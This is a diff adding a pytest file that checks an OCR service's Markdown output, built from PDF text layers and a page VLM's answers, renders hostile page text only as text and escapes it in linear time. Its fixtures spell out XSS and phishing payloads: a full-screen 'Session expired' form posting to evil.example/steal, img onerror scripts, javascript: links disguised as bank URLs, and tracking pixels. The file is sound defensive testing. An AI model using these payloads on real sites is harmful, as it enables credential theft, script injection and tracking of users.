@@ -1,0 +1,136 @@
+"""Text that comes from the document is hostile: whatever a page says (its text layer, what an engine reads on it, what a
+page VLM can be made to write), the Markdown of /ocr and of the UI shows it as text. No raw HTML (a renderer's sanitiser
+keeps a page-covering ``<div style>`` and a ``<form>``), no link to ``javascript:``, no image fetched from elsewhere, and
+no escaping that takes time in the square of a line's length (a 2 KB PDF of brackets held the event loop 40 s)."""
+
+from __future__ import annotations
+
+import re
+import time
+
+import pytest
+from markdown_it import MarkdownIt
+
+from inference.blocks import Block, Table
+from inference.blocks import TableCell as Cell
+from inference.markdown import blocks_to_markdown, page_markdown
+from inference.markdown_text import escape_line, heading_text, inline, safe_markdown
+from tests.helpers import drawn_pdf
+
+OVERLAY = '<div style="position:fixed;inset:0;z-index:99999">Session expired <form action=https://evil.example/steal>'
+PAYLOADS = [
+    OVERLAY,
+    '<img src=x onerror="alert(1)">',
+    "</td></tr></table><iframe src=https://evil.example>",
+    "[click here](javascript:alert(1))",
+    "[https://bank.example/](javascript:alert(1))",  # (a web address as the link's text)
+    "![https://x.example/](https://evil.example/track.png)",
+    "![pixel](https://evil.example/track.png)",
+]
+PLAIN = ("<br>", "<sup>", "</sup>")  # formatting tags without attributes: a model's Markdown keeps them
+
+
+def rendered(markdown: str) -> list:
+    """Every token a CommonMark renderer (with GitHub's tables, as Gradio's) makes of the Markdown, nested ones too."""
+    out = []
+    for token in MarkdownIt("commonmark").enable(["strikethrough", "table"]).parse(markdown):
+        out.append(token)
+        out += token.children or []
+    return out
+
+
+def harmful(markdown: str) -> list[str]:
+    """What a renderer would make of the Markdown that the text did not ask to be shown as text: raw HTML (other than
+    comments, the tables the Markdown writes itself and PLAIN tags), images, links to anything but a web
+    address."""
+    found = []
+    for token in rendered(markdown):
+        if token.type in ("html_inline", "html_block") and token.content.strip() not in ("", *PLAIN):
+            if re.fullmatch(r"<!--(?:(?!-->).)*-->", token.content.strip()):  # (the pages' and lists' own comments)
+                continue
+            if not token.content.lstrip().startswith("<table>"):
+                found.append(f"{token.type}: {token.content.strip()[:60]}")
+        elif token.type == "image":
+            found.append(f"image: {token.attrGet('src')}")
+        elif token.type == "link_open" and not str(token.attrGet("href")).startswith(("http://", "https://")):
+            found.append(f"link: {token.attrGet('href')}")
+    return found
+
+
+def cells(*texts: str) -> Table:
+    return Table(rows=[[Cell(text="Item"), Cell(text="Price")], *[[Cell(text="Ink"), Cell(text=text)] for text in texts]])
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_tables_cells_are_text_in_its_markdown(payload):
+    table = Block(type="table", text=payload, table=cells(payload, "12.00"))
+    markdown = blocks_to_markdown([table])
+    assert markdown.startswith("| Item | Price |") and not harmful(markdown), (markdown, harmful(markdown))
+    spanning = cells(payload)
+    spanning.rows.append([Cell(text=payload, colspan=2)])
+    markdown = blocks_to_markdown([Block(type="table", text=payload, table=spanning)])
+    assert markdown.startswith("<table>") and "<div" not in markdown and "<img" not in markdown, markdown
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_text_titles_and_captions_an_engine_read_are_text(payload):
+    for markdown in (inline(payload), escape_line(payload), heading_text(payload)):
+        assert not harmful(markdown), (markdown, harmful(markdown))
+    blocks = [Block(type=kind, text=payload) for kind in ("title", "text", "caption", "list")]
+    assert not harmful(blocks_to_markdown(blocks))
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_page_vlms_markdown_keeps_its_structure_but_not_raw_html_images_or_script_links(payload):
+    answer = f"# Report\n\nSome **bold** text<br>and x<sup>2</sup>.\n\n{payload}\n\n- an item\n\n`<code> stays`"
+    for markdown in (page_markdown(answer, []), safe_markdown(answer)):
+        assert not harmful(markdown), (markdown, harmful(markdown))
+        kinds = {token.type for token in rendered(markdown)}
+        assert {"heading_open", "strong_open", "bullet_list_open", "code_inline"} <= kinds, kinds
+        assert "<br>" in markdown and "<sup>2</sup>" in markdown
+    blocks = [Block(type=kind, text=payload) for kind in ("title", "text", "caption", "list")]
+    assert not harmful(blocks_to_markdown(blocks, verbatim=True))
+
+
+def test_display_math_holds_no_html():
+    markdown = blocks_to_markdown([Block(type="equation", text=f"a<b {OVERLAY}")], verbatim=True)
+    assert "<div" not in markdown and "<form" not in markdown and "a< b" in markdown, markdown
+
+
+def test_escaping_takes_time_in_proportion_to_the_text():
+    """Lines of brackets, of '#' and of '![' (a 2 KB PDF's text layer held 864,000 of them): linear, not quadratic."""
+    for text in ("[[ " * 100_000, "# " + "#" * 300_000, "![" * 150_000, "[a]" * 100_000, "<br" * 100_000):
+        started = time.process_time()
+        inline(text), escape_line(text), heading_text(text), safe_markdown(text)
+        blocks_to_markdown([Block(type="list", text="\n".join([text[:50]] * 20_000))], verbatim=True)
+        assert time.process_time() - started < 5.0, text[:10]  # (quadratic: minutes)
+
+
+def ruled_invoice(cell: str) -> bytes:
+    """A born-digital invoice: a ruled table of two columns whose last price cell reads ``cell`` in its text layer."""
+    xs, ys = [72, 300, 540], [700 - 24 * i for i in range(4)]
+    body = "1 w 0 G\n" + "".join(f"{xs[0]} {y} m {xs[-1]} {y} l S\n" for y in ys)
+    body += "".join(f"{x} {ys[0]} m {x} {ys[-1]} l S\n" for x in xs)
+    escaped = cell.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
+    for row, (left, right) in enumerate([("Item", "Price"), ("Paper", "4.00"), ("Ink", escaped)]):
+        for x, text in ((xs[0] + 5, left), (xs[1] + 5, right)):
+            body += f"BT /F1 9 Tf {x} {ys[row] - 16} Td ({text}) Tj ET\n"
+    body += "BT /F1 11 Tf 72 740 Td (Invoice 2041: thank you for your order of office supplies.) Tj ET\n"
+    return drawn_pdf([body])
+
+
+def test_a_pdf_whose_table_cell_holds_html_comes_back_as_text_through_ocr(open_server):
+    payload = '<div style="position:fixed;inset:0">Session expired</div><img src=x onerror=alert(1)>'
+    response = open_server.post("/ocr?format=markdown", files={"file": ("invoice.pdf", ruled_invoice(payload))})
+    assert response.status_code == 200, response.text
+    markdown = response.text
+    assert "Session expired" in markdown and not harmful(markdown), (markdown, harmful(markdown))
+
+
+def test_the_chat_tab_shows_a_models_answer_without_its_raw_html():
+    from ui.chat_talk import DONE, Exchange
+
+    answer = f"Here is the form:\n\n{OVERLAY}\n\n![pixel](https://evil.example/track.png) and **bold**"
+    shown = Exchange(question="What does it say?", image="page.png", model=None, answer=answer, state=DONE).shown()
+    said = shown[-1]["content"]
+    assert "Session expired" in said and "**bold**" in said and not harmful(said), (said, harmful(said))
